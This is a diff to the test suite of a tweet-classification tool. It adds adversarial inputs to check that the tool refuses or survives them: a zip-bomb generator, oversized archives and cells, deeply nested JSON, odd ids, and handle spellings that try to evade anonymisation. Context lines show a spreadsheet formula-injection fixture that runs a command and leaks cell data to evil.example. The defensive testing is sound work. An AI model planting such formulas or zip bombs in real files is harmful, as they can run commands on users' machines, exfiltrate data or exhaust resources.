@@ -140,6 +140,83 @@ def _skops(change: Callable[[dict], None]) -> Callable[[Path], None]:
     return make
 
 
+def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> Callable[[Path], None]:
+    def make(path: Path) -> None:
+        with zipfile.ZipFile(path, "w", compression=compression) as archive:
+            for name, data in members.items():
+                archive.writestr(name, data)
+    return make
+
+
+def _bomb(path: Path) -> None:
+    """64 MiB of one letter in a CSV member: it packs about a thousand times."""
+    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        with archive.open("chat.csv", "w", force_zip64=True) as handle:
+            handle.write(b"text\n")
+            for _ in range(16):
+                handle.write(b"A" * (1 << 22))
+
+
+def _many_members(n: int) -> Callable[[Path], None]:
+    def make(path: Path) -> None:
+        with zipfile.ZipFile(path, "w") as archive:
+            for k in range(n):
+                archive.writestr(f"week{k}.csv", f"tweet_id,text\n{k + 1},A1 peer review in cohorts {k}\n")
+    return make
+
+
+def _classified_with(change: Callable[[str], str]) -> Callable[[Path], None]:
+    """A classify output of the sample chat, then changed (a ragged row, a cut line)."""
+    def make(path: Path) -> None:
+        from socialviews.classify import classify_files
+        from socialviews.store import ModelStore
+
+        source = path.with_name("source.csv")
+        source.write_text(CHAT, encoding="utf-8")
+        classify_files([source], ModelStore(_root(path) / "store").load(scoring_only=True), path, jobs=1)
+        source.unlink()
+        path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")
+    return make
+
+
+def _no_alice(tmp: Path, out: str) -> bool:
+    page = (tmp / "r.html").read_text(encoding="utf-8").lower()
+    return "alice" not in page and "participant-" in page
+
+
+def _ids(name: str, present: list[str], absent: list[str]) -> Callable[[Path, str], bool]:
+    def check(tmp: Path, out: str) -> bool:
+        with open(tmp / name, encoding="utf-8", newline="") as handle:
+            ids = [row["tweet_id"] for row in csv.DictReader(handle)]
+        return all(i in ids for i in present) and not any(i in ids for i in absent)
+    return check
+
+
+LEAKS = """tweet_id,author,created_at,text
+200,host,2018-03-16T08:00:00Z,Q1 what do you think?
+201,bob_ld,2018-03-16T08:01:00Z,A1 RT@alice_ld: we learn together with others in practice
+202,host,2018-03-16T08:02:00Z,Q2 what do you think?
+203,bob_ld,2018-03-16T08:03:00Z,A2 see http://twitter.com/#!/alice_ld for her take on peer feedback buddies
+204,bob_ld,2018-03-16T08:04:00Z,A2 nitter.net/alice_ld has all her posts on collaborative learning
+205,bob_ld,2018-03-16T08:05:00Z,"A2 agree with \uff20alice_ld, meaning is made together in practice"
+206,bob_ld,2018-03-16T08:06:00Z,A2 https://vxtwitter.com/alice_ld/status/1 the culture of sharing online matters
+207,bob_ld,2018-03-16T08:07:00Z,A2 https://fxtwitter.com/Alice_LD and twitter.com/intent/user?screen_name=alice_ld
+208,bob_ld,2018-03-16T08:08:00Z,A2 twitter.com/search?q=from%3Aalice_ld or from:alice_ld
+209,bob_ld,2018-03-16T08:09:00Z,"A2 thanks @\u200balice_ld, and alice_ld again"
+210, alice_ld ,2018-03-16T08:10:00Z,A2 peer review in small groups
+"""
+FLOAT_IDS = "".join(line + "\n" for line in [
+    '{"id": 1.2e18, "text": "A1 sci"}', '{"id": 1264260000000000123.0, "text": "A1 float"}',
+    '{"id": 1E+18, "text": "A1 E"}', '{"id": NaN, "text": "A1 nan"}', '{"id": 1e400, "text": "A1 big"}',
+    '{"id": Infinity, "text": "A1 inf"}', '{"id": 1264260000000000124, "text": "A1 int"}', '{"id": -5, "text": "A1 neg"}'])
+OUTLIER_TIMES = "tweet_id,author,created_at,text,chat\n" + "".join(
+    f"{k},u{k},{t},A1 peer review {k},week1\n" for k, t in enumerate(
+        ["1970-01-01T00:00:00Z", "2018-03-16T08:00:00Z", "2262-04-11T00:00:00Z"], start=1))
+LONG_TOKEN_CORPUS = "text,label,source\n" + "".join(
+    f"{text},{label},t\n" for label, texts in __import__("tests.conftest", fromlist=["TINY_CORPUS"]).TINY_CORPUS.items()
+    for text in texts if "," not in text and '"' not in text) + "peer review " + "q" * 5000 + ",collaborative_learning,t\n"
+
+
 INJECTION = """tweet_id,author,created_at,text
 1001,ld_host,2018-03-16T08:00:00Z,Q1 what is social learning?
 1002,=cmd|' /C calc'!A0,2018-03-16T08:01:00Z,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"
@@ -266,6 +343,86 @@ ATTACKS: dict[str, Attack] = {
     "F14b terminal escapes in a header": Attack(
         {"esc.csv": 'a\x1b[31m,b\nx,y\n'}, "classify {T}/esc.csv --text-column zzz", 1, "",
         lambda tmp, out: "\x1b" not in out),
+    # -- unbounded resources ------------------------------------------------------------------
+    "A7 a zip bomb is refused unpacked": Attack({"bomb.zip": _bomb}, "classify {T}/bomb.zip -o {T}/o.csv", 1, "zip bomb",
+                                                lambda tmp, out: not (tmp / "o.csv").exists()),
+    "A7b report of a zip bomb": Attack({"bomb.zip": _bomb}, "report {T}/bomb.zip -o {T}/r.html", 1, "zip bomb"),
+    "A8 a zip of 300 members is read, each once": Attack(
+        {"many.zip": _many_members(300)}, "classify {T}/many.zip -o {T}/o.csv", 0, "300 records read"),
+    "A8b a zip of 10,001 entries is refused": Attack({"many.zip": _many_members(10_001)},
+                                                     "classify {T}/many.zip -o {T}/o.csv", 1, "10,001 entries"),
+    "A9 report of a .zip that classify reads": Attack(
+        {"a.zip": _zip({"chat.csv": CHAT.encode()})}, "report {T}/a.zip -o {T}/r.html", 0, "report of 18 tweets"),
+    "A9b queue of a .zip": Attack({"a.zip": _zip({"chat.csv": CHAT.encode()})}, "queue {T}/a.zip -n 5 -o {T}/q.csv", 0,
+                                  "queued 5"),
+    "E8 a CSV of 3,000 columns": Attack({"wide.csv": ",".join(["text"] + [f"c{k}" for k in range(3000)]) + "\n"
+                                         + ",".join(["A1 peer review"] + ["x"] * 3000) + "\n"},
+                                        "classify {T}/wide.csv -o {T}/o.csv", 1, "3,001 columns"),
+    "E8b a JSON line of 3,000 keys": Attack(
+        {"wide.jsonl": json.dumps({"text": "A1 x", **{f"k{k}": k for k in range(3000)}}) + "\n"
+         + '{"id": "2", "text": "A1 peer review"}\n'}, "classify {T}/wide.jsonl -o {T}/o.csv --max-rejects 1", 0,
+        "1 rejected"),
+    "E2 a 200 KB unquoted cell is a (long) tweet": Attack(
+        {"long.csv": CHAT + "999,x,2018-03-16T09:00:00Z,A1 " + "w" * 200_000 + "\n"},
+        "classify {T}/long.csv -o {T}/o.csv", 0, "19 records read = 19 classified"),
+    "E2b a 2 MB cell is one reject, not an unclosed quote": Attack(
+        {"long.csv": CHAT + "999,x,2018-03-16T09:00:00Z,A1 " + "w" * 2_000_000 + "\n"},
+        "classify {T}/long.csv -o {T}/o.csv", 0, "1 rejected"),
+    "E28 a timeline over centuries": Attack({"t.csv": OUTLIER_TIMES}, "report {T}/t.csv -o {T}/r.html", 0, "no timeline"),
+    "D16 a long token is stored compactly": Attack(
+        {"long.csv": LONG_TOKEN_CORPUS}, "train --corpus {T}/long.csv --cv 0 --no-promote --models-dir {T}/fresh", 0, "",
+        lambda tmp, out: all(b"<U5" not in p.read_bytes() for p in (tmp / "fresh").glob("*/scorer.npz"))),
+    # -- tracebacks ---------------------------------------------------------------------------
+    "F5 Label Studio choices that are numbers": Attack(
+        {"ls.json": json.dumps([{"data": {"text": "peer review"}, "annotations": [{"result": [{"value": {"choices": [5]}}]}]}])},
+        "labels import {T}/ls.json --corpus {T}/c", 1, "not text"),
+    "F5b Prodigy accept of numbers": Attack(
+        {"p.jsonl": '{"text": "peer review", "accept": [3], "answer": "accept"}\n'},
+        "labels import {T}/p.jsonl --corpus {T}/c --format prodigy", 1, "not text"),
+    "F5c doccano label a number": Attack({"d.jsonl": '{"text": "peer review", "label": 2}\n'},
+                                         "labels import {T}/d.jsonl --corpus {T}/c --format doccano", 1, "not text"),
+    "F5d doccano sequence-labelling export": Attack(
+        {"d.jsonl": '{"text": "peer review", "label": [[0, 7, "collaborative_learning"]]}\n'},
+        "labels import {T}/d.jsonl --corpus {T}/c --format doccano", 1, "span"),
+    "F8 labels JSON nested 100,000 deep": Attack({"deep.json": "[" * 100_000}, "labels import {T}/deep.json --corpus {T}/c",
+                                                 1, "nested too deeply"),
+    "F9 a label CSV with a 200 KB text": Attack({"big.csv": "text,label\n" + "w" * 200_000 + ",none\n"},
+                                                "labels import {T}/big.csv --corpus {T}/c", 1, "characters"),
+    "F10 an imported.csv holding a long text can be added to": Attack(
+        {"c/imported.csv": "text,label,source,tweet_id,author,imported_at\n" + "w" * 200_000 + ",none,x,,,\n",
+         "more.csv": "text,label\nbuddies for every new starter,collaborative_learning\n"},
+        "labels import {T}/more.csv --corpus {T}/c", 0, "1 imported"),
+    "E21 a lone surrogate in a JSON key": Attack({"s.jsonl": '{"id":"1","text":"A1 x","\\ud83d":"x"}\n'},
+                                                 "classify {T}/s.jsonl -o {T}/o.csv", 0, "1 records read"),
+    "E22 classify the output of a classify output": Attack(
+        {"chat.csv": CHAT}, "classify {T}/g2.csv -o {T}/g3.csv", 0, "18 records read",
+        before="classify {T}/chat.csv -o {T}/g1.csv && classify {T}/g1.csv -o {T}/g2.csv"),
+    "E22b the same, written as Parquet and JSON Lines": Attack(
+        {"chat.csv": CHAT}, "classify {T}/g2.csv -o {T}/g3.parquet", 0, "18 records read",
+        before="classify {T}/chat.csv -o {T}/g1.csv && classify {T}/g1.csv -o {T}/g2.csv "
+               "&& classify {T}/g2.csv -o {T}/g3.jsonl"),
+    "E27 report of a classify output with a ragged row": Attack(
+        {"c.csv": _classified_with(lambda t: t + ",".join(["x"] * 40) + "\n")}, "report {T}/c.csv -o {T}/r.html", 1, "cannot be read"),
+    "E27b report of a classify output JSONL with a cut line": Attack(
+        {"c.jsonl": _classified_with(lambda t: t[: len(t) - 40])}, "report {T}/c.jsonl -o {T}/r.html", 1, "cannot be read"),
+    "E27c report of a truncated Parquet output": Attack(
+        {"c.parquet": lambda p: p.write_bytes(b"PAR1" + b"x" * 100)}, "report {T}/c.parquet -o {T}/r.html", 1,
+        "cannot be read"),
+    "D9b --allow-pickle of a pickle that is no model": Attack(
+        {"sent/m1/model.joblib": pickle.dumps(5), "sent/m1/manifest.json": lambda p: p.write_text(json.dumps(
+            {"model_id": "m1", "labels": ["a", "b", "c"], "versions": {},
+             "model_sha256": hashlib.sha256(pickle.dumps(5)).hexdigest()}))},
+        "explain 'peer review' --models-dir {T}/sent --model m1 --allow-pickle", 1, "does not hold a model"),
+    "J1 train --seed -1": Attack({}, "train --seed -1 --cv 0 --models-dir {store}", 2, "--seed"),
+    "J2 evaluate --cv 100000": Attack({}, f"evaluate {REPO}/data/eval --cv 100000 -o {{T}}/ev", 2, "--cv 100000"),
+    "J3 explain --top -3": Attack({}, "explain 'peer review' --top -3", 2, "--top"),
+    "J3b retrain --tolerance nan": Attack({}, "retrain --tolerance nan --labels {T}", 2, "--tolerance"),
+    # -- wrong silent results -----------------------------------------------------------------
+    "B8 --anonymise: every handle spelling": Attack(
+        {"alice_ld_chat.csv": LEAKS}, "report {T}/alice_ld_chat.csv --anonymise -o {T}/r.html", 0, "", _no_alice),
+    "H2 JSON float ids": Attack(
+        {"ids.jsonl": FLOAT_IDS}, "classify {T}/ids.jsonl -o {T}/ids.csv --max-rejects 100%", 0, "JSON numbers",
+        _ids("ids.csv", ["1264260000000000123", "1264260000000000124", "-5"], ["inf", "1.2e+18", "1.26426e+18", "1e+18"])),
 }
 
 
@@ -295,8 +452,8 @@ def test_attack_holds(name, runner, trained_store, tmp_path, monkeypatch):
     store = tmp_path / "store"  # a copy: attacks may damage it
     shutil.copytree(trained_store, store)
     _prepare(tmp_path, attack)
-    if attack.before:
-        first = invoke(runner, _command(attack.before, tmp_path, store))
+    for before in filter(None, attack.before.split(" && ")):
+        first = invoke(runner, _command(before, tmp_path, store))
         assert first.exit_code == 0, first.stderr
     result = invoke(runner, _command(attack.args, tmp_path, store))
     message = result.stderr + result.stdout
@@ -304,7 +461,7 @@ def test_attack_holds(name, runner, trained_store, tmp_path, monkeypatch):
     assert isinstance(result.exception, (SystemExit, type(None))), repr(result.exception)
     assert "Traceback" not in message
     assert attack.says in message, message
-    if attack.rc:
+    if attack.rc and not result.stderr.startswith("Usage:"):  # usage errors are made one line by main()
         assert result.stderr.strip().splitlines()[-1].startswith("socialviews: error: "), result.stderr
     if attack.then is not None:
         assert attack.then(tmp_path, message), message
